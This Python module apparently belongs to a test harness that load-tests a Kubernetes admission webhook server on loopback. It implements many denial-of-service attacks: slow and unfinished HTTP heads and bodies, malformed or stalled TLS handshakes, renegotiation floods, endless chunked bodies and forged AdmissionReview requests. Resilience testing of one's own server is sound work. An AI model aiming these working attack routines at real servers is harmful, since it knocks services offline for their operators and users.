"""What somebody does who reaches a port and has no account: `python -m attacks.port ATTACK PORT COUNT SECONDS`.

A process of its own, so that its work is not the victim's waiting. All of it on loopback, so many connections at a time
and for so long. Where the server hangs up, the next connection takes the place."""

import asyncio
import itertools
import json
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

import uvloop

from attacks.hello import hello

HOST = "127.0.0.1"
PATIENCE = 20.0
"""Seconds for a connection and its handshake; a server that is busy with others takes its time."""
_ANY = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
_ANY.check_hostname, _ANY.verify_mode = False, ssl.CERT_NONE
_TYPE = b"Host: x\r\nContent-Type: application/json\r\n"
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def post(length: int, path: bytes = b"/mutate?timeout=3s") -> bytes:
    return b"POST " + path + b" HTTP/1.1\r\n" + _TYPE + b"Content-Length: %d\r\n\r\n" % length


def review(namespace: str, account: str = "default", size: int = 0) -> bytes:
    """A whole request, well-formed, about a namespace that need not be; empty containers make its body so long."""
    pod = {"metadata": {}, "spec": {"containers": [{"name": "c", "image": "i"}], "serviceAccountName": account}}
    request = {
        "uid": "u",
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "operation": "CREATE",
        "namespace": namespace,
        "object": pod,
        "dryRun": True,
    }
    body = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode()
    body = body.replace(b"}],", b"}" + b",{}" * ((size - len(body)) // len(",{}")) + b"],").ljust(size)
    return post(len(body)) + body


async def plain(port: int) -> Streams:
    return await asyncio.wait_for(asyncio.open_connection(HOST, port), PATIENCE)


async def tls(port: int) -> Streams:
    return await asyncio.wait_for(asyncio.open_connection(HOST, port, ssl=_ANY), PATIENCE)


async def closed(streams: Streams) -> None:
    """Reads until the server hangs up."""
    while await streams[0].read(65536):
        pass


async def answered(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, request: bytes) -> bool:
    """May there be another one?"""
    writer.write(request)
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    lengths = [line for line in head.split(b"\r\n") if line.startswith(b"content-length:")]
    await reader.readexactly(int(lengths[0].partition(b":")[2]) if lengths else 0)
    return b"connection: close" not in head


# -- one connection of each attack; they come back when the server hangs up --


async def raw(port: int, number: int) -> None:
    """Not a byte."""
    await closed(await plain(port))


async def handshaken(port: int, number: int) -> None:
    """A handshake and nothing more."""
    await closed(await tls(port))


async def unfinished_hello(port: int, number: int) -> None:
    """The beginning of a ClientHello that says it is as long as they may be, in records of 16 KiB."""
    streams = await plain(port)
    beginning = b"\x01\x01\xff\xf0\x03\x03"
    for start in (beginning, *[b""] * 6):
        streams[1].write(b"\x16\x03\x01\x40\x00" + start.ljust(16384, b"\0"))
    await closed(streams)


async def half_handshake(port: int, number: int) -> None:
    """A ClientHello, and no answer to what the server says."""
    streams = await plain(port)
    streams[1].write(hello(b"x" * 20))
    await closed(streams)


async def unfinished_record(port: int, number: int) -> None:
    """After the handshake a record that lacks its last byte."""
    streams = await tls(port)
    raw_socket = streams[1].get_extra_info("socket")
    with suppress(OSError):
        raw_socket.send(b"\x17\x03\x03\x40\x11" + bytes(16400))
    await closed(streams)


async def names(port: int, number: int) -> None:
    """A ClientHello with a server name that is no text; answered with an alert."""
    streams = await plain(port)
    streams[1].write(hello(b"\xff" * 20))
    await closed(streams)
    streams[1].close()


async def many_names(port: int, number: int) -> None:
    """Each connection another server name, the longest there may be."""
    streams = await plain(port)
    streams[1].write(hello(b"%0200d" % number))
    with suppress(TimeoutError):
        await asyncio.wait_for(closed(streams), 0.05)
    streams[1].close()


async def handshakes(port: int, number: int) -> None:
    """A handshake, and gone."""
    streams = await tls(port)
    streams[1].transport.abort()


async def rounds(port: int, number: int) -> None:
    """Connections that come and go."""
    streams = await plain(port)
    await asyncio.sleep(0.5)
    streams[1].transport.abort()


def bodies(length: int, path: bytes = b"/mutate?timeout=3s") -> Callable[[int, int], Awaitable[None]]:
    """A request whose body lacks its last byte."""

    async def unfinished(port: int, number: int) -> None:
        streams = await tls(port)
        streams[1].write(post(length, path) + b" " * (length - 1))
        await closed(streams)

    return unfinished


async def trickled(port: int, number: int) -> None:
    """A body of ordinary size, of which a little comes now and then."""
    streams = await tls(port)
    length = 250 * 1024
    streams[1].write(post(length) + b" " * (length // 2))
    with suppress(TimeoutError):
        while True:
            streams[1].write(b" ")
            await asyncio.wait_for(closed(streams), 0.5)
            break


async def heads(port: int, number: int) -> None:
    """The beginning of a head."""
    streams = await tls(port)
    streams[1].write(b"POST /mutate HTTP/1.1\r\n" + (b"X-%08d: " % number) + b"x" * 15000)
    await closed(streams)


def unread(request: bytes) -> Callable[[int, int], Awaitable[None]]:
    """Requests without end, whose answers nobody takes."""

    async def asks(port: int, number: int) -> None:
        streams = await tls(port)
        streams[1].transport.pause_reading()  # type: ignore[attr-defined]  # a transport that reads has it
        with suppress(TimeoutError):
            while not streams[1].transport.is_closing():
                streams[1].write(request * 8)
                await asyncio.wait_for(streams[1].drain(), 1.0)
        await asyncio.sleep(2.0)
        streams[1].transport.abort()

    return asks


def asking(request: bytes, connect: Callable[[int], Awaitable[Streams]] = tls) -> Callable[[int, int], Awaitable[None]]:
    """Requests one after the other."""

    async def asks(port: int, number: int) -> None:
        reader, writer = await connect(port)
        while await answered(reader, writer, request):
            pass
        writer.close()

    return asks


def forged(namespace: str, account: str, size: int = 0) -> Callable[[int, int], Awaitable[None]]:
    """Reviews, each of which names what does not exist and was not asked for before."""

    async def asks(port: int, number: int) -> None:
        reader, writer = await tls(port)
        for count in itertools.count():
            apart = f"{number}-{count}"
            await answered(reader, writer, review(namespace.format(apart), account.format(apart), size))

    return asks


async def forged_and_gone(port: int, number: int) -> None:
    """A review that has to wait, whose sender does not."""
    _, writer = await tls(port)
    writer.write(review("alice-a", f"none-{number}", 250_000))
    await writer.drain()
    await asyncio.sleep(0.01)
    writer.transport.abort()


async def chunked(port: int, number: int) -> None:
    """A body without end."""
    reader, writer = await tls(port)
    writer.write(b"POST /mutate?timeout=3s HTTP/1.1\r\n" + _TYPE + b"Transfer-Encoding: chunked\r\n\r\n")
    while not reader.at_eof():
        writer.write(b"4000\r\n" + b" " * 0x4000 + b"\r\n")
        await writer.drain()
        await asyncio.sleep(0)
    writer.close()


async def renegotiation(port: int, number: int) -> None:
    """One handshake after another on the same connection, if the server takes part."""
    command = ["openssl", "s_client", "-tls1_2", "-connect", f"{HOST}:{port}"]
    quiet = asyncio.subprocess.DEVNULL
    client = await asyncio.create_subprocess_exec(*command, stdin=asyncio.subprocess.PIPE, stdout=quiet, stderr=quiet)
    assert client.stdin is not None
    try:
        while client.returncode is None:
            client.stdin.write(b"R\n")
            await client.stdin.drain()
            await asyncio.sleep(0.002)
    finally:
        with suppress(ProcessLookupError):
            client.kill()
        await client.wait()


MIB = 1024 * 1024
ATTACKS: dict[str, Callable[[int, int], Awaitable[None]]] = {
    "raw": raw,
    "handshaken": handshaken,
    "rounds": rounds,
    "handshakes": handshakes,
    "unfinished-hello": unfinished_hello,
    "half-handshake": half_handshake,
    "unfinished-record": unfinished_record,
    "names": names,
    "many-names": many_names,
    "large-bodies": bodies(8 * MIB),
    "medium-bodies": bodies(MIB),
    "ordinary-bodies": bodies(250 * 1024),
    "elsewhere": bodies(8 * MIB, b"/healthz"),
    "trickled": trickled,
    "heads": heads,
    "unread": unread(b"GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n"),
    "unread-reviews": unread(review("nowhere")),
    "old-protocol": asking(b"GET /healthz HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
    "metrics": asking(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", plain),
    "metrics-raw": raw,
    "forged": forged("none-{}", "default"),
    "forged-accounts": forged("alice-a", "none-{}"),
    "forged-names": forged("x" * 250_000 + "{}", "default"),
    "forged-and-gone": forged_and_gone,
    "chunked": chunked,
    "renegotiation": renegotiation,
    "forged-large": forged("alice-a", "none-{}", 8 * MIB),
    "forged-medium": forged("alice-a", "none-{}", 1_500_000),
    "forged-ordinary": forged("alice-a", "none-{}", 250_000),
}


async def attack(name: str, port: int, count: int, seconds: float) -> int:
    """How many connections it took."""
    made = 0

    async def again(number: int) -> None:
        nonlocal made
        while True:
            made += 1
            began = asyncio.get_running_loop().time()
            with suppress(OSError, ssl.SSLError, EOFError, asyncio.IncompleteReadError, TimeoutError):
                await ATTACKS[name](port, number + made * count)
            if asyncio.get_running_loop().time() - began < 0.001:
                await asyncio.sleep(0.01)  # refused at once: no need to spin

    tasks = [asyncio.create_task(again(number)) for number in range(count)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks, timeout=2)
    return made


def main() -> None:
    name, port, count, seconds = sys.argv[1:]
    loop = uvloop.new_event_loop()
    loop.set_exception_handler(lambda _loop, _context: None)  # the server hangs up, and that is well
    print(loop.run_until_complete(attack(name, int(port), int(count), float(seconds))))


if __name__ == "__main__":
    main()
